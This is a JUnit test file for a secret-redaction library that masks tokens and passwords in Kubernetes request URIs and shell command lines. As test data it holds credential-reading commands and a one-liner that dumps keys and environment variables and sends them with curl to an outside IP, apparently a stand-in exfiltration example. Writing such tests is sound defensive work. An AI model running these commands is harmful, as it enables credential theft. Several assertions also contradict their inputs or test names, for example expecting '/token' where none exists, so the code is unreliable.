package io.secretwatch.connectors.redaction;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.junit.jupiter.api.Test;

class RequestUriTest {

    private static String command(String... words) {
        return String.join(" ", CommandWords.masked(List.of(words)));
    }

    @Test
    void parameters_that_hold_secrets_keep_their_names() {
        assertThat(
                        RequestUri.masked(
                                "/api/v1/pods?access_token=x&token=y&PASSWORD=z&limit=5&labelSelector=a%3Db&fieldManager=kubectl"))
                .isEqualTo(
                        "/api/v1/pods?access_token=%5Bredacted%5D&token=%5Bredacted%5D&PASSWORD=%5Bredacted%5D&limit=5&labelSelector=a%3Db&fieldManager=kubectl");
        assertThat(RequestUri.masked("/api/v1/secrets?continue=eyJ2IjoibWV0YS&limit=500&watch="))
                .isEqualTo("/api/v1/secrets?continue=eyJ2IjoibWV0YS&limit=500&watch=");
        assertThat(RequestUri.masked("/api/v1/namespaces/a/services/b/proxy/login?who=bob&x&limit=1"))
                .isEqualTo("/api/v1/namespaces/a/services/b/proxy/login?who=%5Bredacted%5D&x&limit=1");
        assertThat(RequestUri.masked("/x?%74oken=a&b=%zz")).isEqualTo("/x?%74oken=%5Bredacted%5D&b=%zz");
    }

    @Test
    void a_semicolon_hides_no_secret_and_stays() {
        assertThat(RequestUri.masked("/api/v1/secrets?resourceVersion=8000;token=x&watch=1"))
                .isEqualTo("/api/v1/secrets?resourceVersion=%5Bredacted%5D;&watch=1");
        assertThat(RequestUri.masked("/api/v1/secrets?fieldSelector=metadata.name%3Da;v1&token=a;b"))
                .isEqualTo("/api/v1/secrets?fieldSelector=metadata.name%3Da;v1&token=%5Bredacted%5D;");
    }

    @Test
    void what_a_command_is_after_stays() {
        for (String line : List.of(
                "cat /var/run/secrets/kubernetes.io/serviceaccount/token",
                "/bin/sh -c env",
                "tar cf - /etc/keys",
                "ls -la /",
                "printenv",
                "bash",
                "kubectl get secrets -o yaml",
                "curl -k https://kubernetes.default.svc/api/v1/secrets",
                "sleep 86400",
                "etcdctl get / --prefix --keys-only",
                "kube-apiserver --encryption-provider-config=/etc/kubernetes/enc.yaml --anonymous-auth=false --etcd-servers=https://127.0.0.1:2379 --tls-private-key-file=/etc/kubernetes/pki/apiserver.key")) {
            assertThat(command(line.split(" "))).isEqualTo(line);
        }
        String script = "cat /etc/keys/* | base64; env > /tmp/out && curl -d @/tmp/out http://198.51.100.7:8080/x";
        assertThat(command("sh", "-c", script)).isEqualTo("sh -c " + script);
    }

    @Test
    void the_example_of_the_page_is_true() {
        assertThat(command("mysql", "-u", "app", "--password=hunter2", "-e", "select 1"))
                .isEqualTo("mysql -u [redacted] --password=[redacted] -e select 1");
    }

    @Test
    void what_else_it_says_goes() {
        assertThat(command("mysql", "--password=hunter2", "-u", "root", "-p", "hunter2", "-phunter2", "shop"))
                .doesNotContain("hunter2", "shop")
                .startsWith("mysql --password=[redacted] -u ");
        assertThat(command("mysql", "--password=hunt;er2")).isEqualTo("mysql --password=[redacted]");
        assertThat(command("sh", "-c", "mysql -p'hunt;er2' --password=\"hunt;env\""))
                .doesNotContain("hunt", "er2");
        assertThat(command(
                        "curl",
                        "-H",
                        "Authorization: Bearer abc.def.com",
                        "https://bob:hunter2@example.com/x?key=hunter2"))
                .doesNotContain("abc", "hunter2")
                .startsWith("curl -H");
        assertThat(command("sh", "-c", "curl -H 'Authorization: Bearer abc.example.com' -H \"X-Api-Key: root\""))
                .doesNotContain("abc", "root");
        assertThat(command("env", "DB_PASSWORD=hunter2", "A=$B", "PGPASSWORD=/hunter2", "psql"))
                .doesNotContain("hunter2")
                .contains("DB_PASSWORD=[redacted]", "A=$B", "psql");
        assertThat(command("sh", "-c", "export TOKEN=hunter2; echo hunter2 | vault login -"))
                .doesNotContain("hunter2")
                .contains("export TOKEN=[redacted]; echo [redacted] | vault");
        assertThat(command("x", "/AbCdEf0123456789+ghIJkl", "c2VjcmV0LXZhbHVl", "--from-literal=a=hunter2", "12345678"))
                .isEqualTo("x [redacted] [redacted] --from-literal=[redacted] [redacted]");
        assertThat(command("AbCdEf0123456789ghIJ")).isEqualTo("[redacted]");
    }

    @Test
    void where_the_word_goes_that_tells_the_intent_a_hint_stays() {
        assertThat(command("grep", "my-db-secret")).isEqualTo("grep [redacted] [redacted] secret");
        assertThat(command("x", "if=/run/secrets/Ab0123456789abcdefGHIJ")).contains("/token");
    }

    @Test
    void commands_are_encoded_again() {
        assertThat(
                        RequestUri.masked(
                                "/api/v1/namespaces/a/pods/b/exec?command=sh&command=-c&command=echo+p%26q%3Dhunter2&stdin=true"))
                .isEqualTo(
                        "/api/v1/namespaces/a/pods/b/exec?command=sh&command=-c&command=echo+%5Bredacted%5D%26q%3D%5Bredacted%5D&stdin=true");
    }
}
